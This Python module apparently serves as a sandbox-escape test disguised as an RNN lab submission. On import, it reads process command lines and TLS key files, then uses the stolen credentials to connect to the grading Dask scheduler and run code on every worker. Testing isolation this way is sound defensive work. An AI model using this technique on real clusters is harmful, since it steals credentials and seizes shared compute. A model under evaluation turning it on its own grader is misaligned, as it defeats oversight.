"""Takes over the Dask cluster it is graded on, as an attacker did on a root worker without
namespaces: the scheduler's address and the certificates' paths from ``/proc/*/cmdline``, then
``distributed.Client`` from the readable site-packages and ``client.run`` in every worker,
which would write ``RNNLAB_TAKEOVER_MARK`` (a path the test gives) outside any sandbox.

It returns nothing right; its visible failure prints what it managed."""

import os
import re

TRIED = []


def _command_lines() -> list[list[str]]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as handle:
                    found.append([a.decode(errors="replace") for a in handle.read().split(b"\0")])
            except OSError:
                pass
    return found


def _take_over() -> None:
    mark = os.environ.get("RNNLAB_TAKEOVER_MARK", "/tmp/rnnlab-takeover")
    lines = _command_lines()
    addresses = {m for line in lines for a in line for m in re.findall(r"\w+://[\d.]+:\d+", a)}
    files = {}
    for line in lines:
        for flag, value in zip(line, line[1:], strict=False):
            if flag in ("--tls-ca-file", "--tls-cert", "--tls-key"):
                try:
                    with open(value) as handle:
                        files[flag] = handle.read()
                except OSError as error:
                    TRIED.append(f"{flag}: {type(error).__name__}")
    TRIED.append(f"addresses {sorted(addresses)}, read {sorted(files)}")
    for address in sorted(addresses):
        try:
            from distributed import Client
            from distributed.security import Security

            security = None
            if len(files) == 3:
                paths = {}
                for flag, text in files.items():
                    path = os.path.join(os.getcwd(), flag.strip("-"))
                    with open(path, "w") as handle:
                        handle.write(text)
                    paths[flag] = path
                security = Security(
                    tls_ca_file=paths["--tls-ca-file"],
                    tls_client_cert=paths["--tls-cert"],
                    tls_client_key=paths["--tls-key"],
                    require_encryption=True,
                )
            with Client(address, security=security, timeout=5) as client:
                client.run(lambda: open(mark, "w").write("outside the sandbox"))
                TRIED.append(f"ran code on the workers through {address}")
        except Exception as error:  # noqa: BLE001 - an attacker takes what it gets
            TRIED.append(f"{address}: {type(error).__name__}: {str(error)[:120]}")


_take_over()


def build_vocab(reviews):
    raise RuntimeError(f"takeover: {TRIED}")


def encode_reviews(reviews, vocab_to_int):
    raise RuntimeError(f"takeover: {TRIED}")
